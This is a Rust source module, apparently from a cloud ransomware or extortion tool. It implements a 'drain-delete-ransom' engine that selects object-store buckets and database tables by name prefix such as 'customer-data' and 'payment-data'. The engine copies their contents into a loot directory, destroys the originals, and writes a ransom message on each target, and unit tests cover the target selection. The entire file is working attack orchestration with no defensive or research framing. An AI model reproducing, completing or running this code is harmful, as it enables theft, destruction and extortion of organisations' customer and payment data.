use std::collections::{HashMap, HashSet};
use std::path::PathBuf;

use async_trait::async_trait;
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use tracing::{info, warn};

use crate::error::{AttackError, AttackResult};
use crate::loot::LootWriter;

pub mod memory;
pub mod object_store;
pub mod table_store;

/// Progression of one drain run. Every arrow is a distinct public operation
/// on [`DrainRun`]; calling them out of order is rejected, not ignored.
/// Idle -> Located -> Exfiltrated -> Deleted -> Annotated
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Phase {
    Idle,
    Located,
    Exfiltrated,
    Deleted,
    Annotated,
}

impl Phase {
    pub fn next(&self) -> Option<Phase> {
        match self {
            Phase::Idle => Some(Phase::Located),
            Phase::Located => Some(Phase::Exfiltrated),
            Phase::Exfiltrated => Some(Phase::Deleted),
            Phase::Deleted => Some(Phase::Annotated),
            Phase::Annotated => None,
        }
    }

    pub fn is_terminal(&self) -> bool {
        matches!(self, Phase::Annotated)
    }
}

impl std::fmt::Display for Phase {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Phase::Idle => write!(f, "Idle"),
            Phase::Located => write!(f, "Located"),
            Phase::Exfiltrated => write!(f, "Exfiltrated"),
            Phase::Deleted => write!(f, "Deleted"),
            Phase::Annotated => write!(f, "Annotated"),
        }
    }
}

/// Selects targets out of a live resource listing by name prefix.
#[derive(Debug, Clone)]
pub struct Locator {
    prefixes: Vec<String>,
    case_insensitive: bool,
    allow_list: Option<HashSet<String>>,
}

impl Locator {
    pub fn new(prefixes: Vec<String>, case_insensitive: bool) -> Self {
        Self { prefixes, case_insensitive, allow_list: None }
    }

    /// Additionally require names to appear in a known-resource list,
    /// capping the blast radius to what the rollout actually provisioned.
    pub fn with_allow_list(mut self, names: impl IntoIterator<Item = String>) -> Self {
        self.allow_list = Some(names.into_iter().collect());
        self
    }

    pub fn matches(&self, name: &str) -> bool {
        if let Some(allow) = &self.allow_list {
            if !allow.contains(name) {
                return false;
            }
        }
        if self.case_insensitive {
            let lower = name.to_lowercase();
            self.prefixes.iter().any(|p| lower.starts_with(&p.to_lowercase()))
        } else {
            self.prefixes.iter().any(|p| name.starts_with(p.as_str()))
        }
    }

    /// Subset of `listed` that matches, in listing order.
    pub fn select(&self, listed: &[String]) -> Vec<String> {
        listed.iter().filter(|n| self.matches(n)).cloned().collect()
    }
}

/// What exfiltration captured from one target. Presence of a record is the
/// proof-of-exfiltration the delete phase checks per target.
#[derive(Debug, Clone, Default, Serialize)]
pub struct ExfilRecord {
    pub target: String,
    /// Object keys captured; stays empty for table scans.
    pub keys: Vec<String>,
    /// Items captured: objects downloaded or rows scanned.
    pub items: usize,
    pub artifacts: Vec<PathBuf>,
    /// Items that failed inside this target; the rest were still taken.
    pub failed: usize,
}

impl ExfilRecord {
    pub fn new(target: impl Into<String>) -> Self {
        Self { target: target.into(), ..Default::default() }
    }

    pub fn is_empty(&self) -> bool {
        self.items == 0 && self.keys.is_empty()
    }
}

#[derive(Debug, Clone, Copy, Default)]
pub struct DestroyOutcome {
    pub destroyed: usize,
    pub failed: usize,
}

/// One resource kind the drain engine can run against. Implementations do
/// the API calls; the engine owns ordering, state and the report.
#[async_trait]
pub trait DrainStore: Send + Sync {
    fn kind(&self) -> &'static str;

    /// Every resource name visible to the session.
    async fn list_resources(&self) -> AttackResult<Vec<String>>;

    /// Read everything out of one target into the loot directory.
    async fn exfiltrate(&self, target: &str, loot: &mut LootWriter) -> AttackResult<ExfilRecord>;

    /// Destroy what was recorded: the objects for object stores, the whole
    /// resource for table stores.
    async fn destroy(&self, target: &str, record: &ExfilRecord) -> AttackResult<DestroyOutcome>;

    /// Whether a target with an empty record is still destroyed (tables are
    /// dropped whole; an empty bucket has nothing to delete).
    fn destroys_empty_targets(&self) -> bool {
        false
    }

    /// One-time setup before annotation (ransom table creation). Idempotent.
    async fn prepare_annotation(&self) -> AttackResult<()> {
        Ok(())
    }

    /// Leave the ransom marker on/for one target. Overwrite semantics.
    async fn annotate(&self, target: &str, message: &str) -> AttackResult<()>;
}

#[derive(Debug, Clone, Serialize)]
pub struct ItemFailure {
    pub phase: Phase,
    pub target: String,
    pub detail: String,
}

/// Aggregated outcome of a drain run, kept truthful: any sub-failure lands
/// here and the run never reads as a full success while this is non-empty.
#[derive(Debug, Clone, Serialize)]
pub struct DrainReport {
    pub kind: String,
    pub started_at: DateTime<Utc>,
    pub targets: Vec<String>,
    pub exfiltrated_items: usize,
    pub artifacts: usize,
    pub skipped_empty: Vec<String>,
    /// Targets the delete phase refused because no exfiltration record
    /// existed for them.
    pub skipped_unexfiltrated: Vec<String>,
    pub destroyed: usize,
    pub annotated: usize,
    pub failures: Vec<ItemFailure>,
}

impl DrainReport {
    fn new(kind: &str) -> Self {
        Self {
            kind: kind.to_string(),
            started_at: Utc::now(),
            targets: Vec::new(),
            exfiltrated_items: 0,
            artifacts: 0,
            skipped_empty: Vec::new(),
            skipped_unexfiltrated: Vec::new(),
            destroyed: 0,
            annotated: 0,
            failures: Vec::new(),
        }
    }

    pub fn is_clean(&self) -> bool {
        self.failures.is_empty() && self.skipped_unexfiltrated.is_empty()
    }
}

/// The canonical drain-delete-ransom engine. One implementation for every
/// resource kind; the store trait supplies the kind-specific calls.
pub struct DrainRun<S: DrainStore> {
    store: S,
    locator: Locator,
    loot: LootWriter,
    force_delete: bool,
    phase: Phase,
    targets: Vec<String>,
    records: HashMap<String, ExfilRecord>,
    report: DrainReport,
}

impl<S: DrainStore> DrainRun<S> {
    pub fn new(store: S, locator: Locator, loot: LootWriter) -> Self {
        let report = DrainReport::new(store.kind());
        Self {
            store,
            locator,
            loot,
            force_delete: false,
            phase: Phase::Idle,
            targets: Vec::new(),
            records: HashMap::new(),
            report,
        }
    }

    /// Let the delete phase run from `Located`, skipping the exfiltration
    /// proof. Off by default.
    pub fn force_delete(mut self, yes: bool) -> Self {
        self.force_delete = yes;
        self
    }

    pub fn phase(&self) -> Phase {
        self.phase
    }

    pub fn store(&self) -> &S {
        &self.store
    }

    pub fn targets(&self) -> &[String] {
        &self.targets
    }

    pub fn report(&self) -> &DrainReport {
        &self.report
    }

    pub fn into_report(self) -> DrainReport {
        self.report
    }

    fn require_phase(&self, action: &'static str, wanted: &[Phase]) -> AttackResult<()> {
        if wanted.contains(&self.phase) {
            return Ok(());
        }
        Err(AttackError::Precondition {
            action,
            state: self.phase.to_string(),
            requires: wanted
                .iter()
                .map(Phase::to_string)
                .collect::<Vec<_>>()
                .join(" or "),
        })
    }

    fn note_failure(&mut self, phase: Phase, target: &str, err: &AttackError) {
        warn!(kind = %self.report.kind, target, %phase, error = %err, "target failed, continuing");
        self.report.failures.push(ItemFailure {
            phase,
            target: target.to_string(),
            detail: err.to_string(),
        });
    }

    /// List the store and build the target set. Empty is a valid outcome.
    pub async fn locate(&mut self) -> AttackResult<usize> {
        self.require_phase("locate", &[Phase::Idle])?;
        let listed = self.store.list_resources().await?;
        self.targets = self.locator.select(&listed);
        self.report.targets = self.targets.clone();
        self.phase = Phase::Located;
        info!(
            kind = %self.report.kind,
            listed = listed.len(),
            targets = self.targets.len(),
            "target set built"
        );
        Ok(self.targets.len())
    }

    /// Drain every target into the loot directory. Per-target failures are
    /// recorded and the batch continues; auth failures abort the run.
    pub async fn exfiltrate(&mut self) -> AttackResult<usize> {
        self.require_phase("exfiltrate", &[Phase::Located])?;
        let targets = self.targets.clone();
        for target in &targets {
            match self.store.exfiltrate(target, &mut self.loot).await {
                Ok(record) => {
                    if record.failed > 0 {
                        let err = AttackError::PartialBatch {
                            action: "exfiltrate",
                            failed: record.failed,
                            total: record.failed + record.items,
                        };
                        self.note_failure(Phase::Exfiltrated, target, &err);
                    }
                    if record.is_empty() {
                        self.report.skipped_empty.push(target.clone());
                    }
                    self.report.exfiltrated_items += record.items;
                    self.report.artifacts += record.artifacts.len();
                    self.records.insert(target.clone(), record);
                }
                Err(e) if e.is_auth() => return Err(e),
                Err(e) => self.note_failure(Phase::Exfiltrated, target, &e),
            }
        }
        self.phase = Phase::Exfiltrated;
        info!(
            kind = %self.report.kind,
            items = self.report.exfiltrated_items,
            artifacts = self.report.artifacts,
            "exfiltration phase complete"
        );
        Ok(self.report.artifacts)
    }

    /// Destroy what was exfiltrated. A target with no record is skipped and
    /// reported, never silently destroyed.
    pub async fn destroy(&mut self) -> AttackResult<usize> {
        let wanted: &[Phase] = if self.force_delete {
            &[Phase::Exfiltrated, Phase::Located]
        } else {
            &[Phase::Exfiltrated]
        };
        self.require_phase("destroy", wanted)?;

        let targets = self.targets.clone();
        for target in &targets {
            let record = match self.records.get(target) {
                Some(r) => r.clone(),
                None if self.force_delete => ExfilRecord::new(target.clone()),
                None => {
                    self.report.skipped_unexfiltrated.push(target.clone());
                    continue;
                }
            };
            if record.is_empty() && !self.store.destroys_empty_targets() && !self.force_delete {
                continue;
            }
            match self.store.destroy(target, &record).await {
                Ok(outcome) => {
                    self.report.destroyed += outcome.destroyed;
                    if outcome.failed > 0 {
                        let err = AttackError::PartialBatch {
                            action: "destroy",
                            failed: outcome.failed,
                            total: outcome.failed + outcome.destroyed,
                        };
                        self.note_failure(Phase::Deleted, target, &err);
                    }
                }
                Err(e) if e.is_auth() => return Err(e),
                Err(e) => self.note_failure(Phase::Deleted, target, &e),
            }
        }
        self.phase = Phase::Deleted;
        info!(kind = %self.report.kind, destroyed = self.report.destroyed, "destroy phase complete");
        Ok(self.report.destroyed)
    }

    /// Leave the ransom marker on every target, including empty ones.
    /// Re-invocation overwrites markers rather than stacking them.
    pub async fn annotate(&mut self, message: &str) -> AttackResult<usize> {
        self.require_phase("annotate", &[Phase::Deleted, Phase::Annotated])?;
        self.store.prepare_annotation().await?;
        let targets = self.targets.clone();
        let mut placed = 0usize;
        for target in &targets {
            match self.store.annotate(target, message).await {
                Ok(()) => placed += 1,
                Err(e) if e.is_auth() => return Err(e),
                Err(e) => self.note_failure(Phase::Annotated, target, &e),
            }
        }
        self.report.annotated += placed;
        self.phase = Phase::Annotated;
        info!(kind = %self.report.kind, placed, "annotation phase complete");
        Ok(placed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn phases_advance_in_order() {
        let mut p = Phase::Idle;
        let mut seen = vec![p];
        while let Some(n) = p.next() {
            p = n;
            seen.push(p);
        }
        assert_eq!(
            seen,
            vec![
                Phase::Idle,
                Phase::Located,
                Phase::Exfiltrated,
                Phase::Deleted,
                Phase::Annotated,
            ]
        );
        assert!(Phase::Annotated.is_terminal());
        assert!(!Phase::Deleted.is_terminal());
    }

    #[test]
    fn locator_selects_prefix_matches_in_order() {
        let listed = vec![
            "payment-data-e5f6".to_string(),
            "unrelated".to_string(),
            "customer-data-c3d4".to_string(),
            "Customer-Data-UPPER".to_string(),
        ];
        let locator = Locator::new(vec!["customer-data".into(), "payment-data".into()], false);
        assert_eq!(
            locator.select(&listed),
            vec!["payment-data-e5f6".to_string(), "customer-data-c3d4".to_string()]
        );
    }

    #[test]
    fn locator_case_insensitive_only_when_configured() {
        let listed = vec!["Customer-Data-UPPER".to_string()];
        let strict = Locator::new(vec!["customer-data".into()], false);
        assert!(strict.select(&listed).is_empty());
        let loose = Locator::new(vec!["customer-data".into()], true);
        assert_eq!(loose.select(&listed).len(), 1);
    }

    #[test]
    fn allow_list_caps_blast_radius() {
        let listed = vec![
            "customer-data-ours".to_string(),
            "customer-data-someone-elses".to_string(),
        ];
        let locator = Locator::new(vec!["customer-data".into()], false)
            .with_allow_list(["customer-data-ours".to_string()]);
        assert_eq!(locator.select(&listed), vec!["customer-data-ours".to_string()]);
    }

    #[test]
    fn empty_prefix_list_selects_nothing() {
        let locator = Locator::new(vec![], false);
        assert!(locator.select(&["anything".to_string()]).is_empty());
    }
}
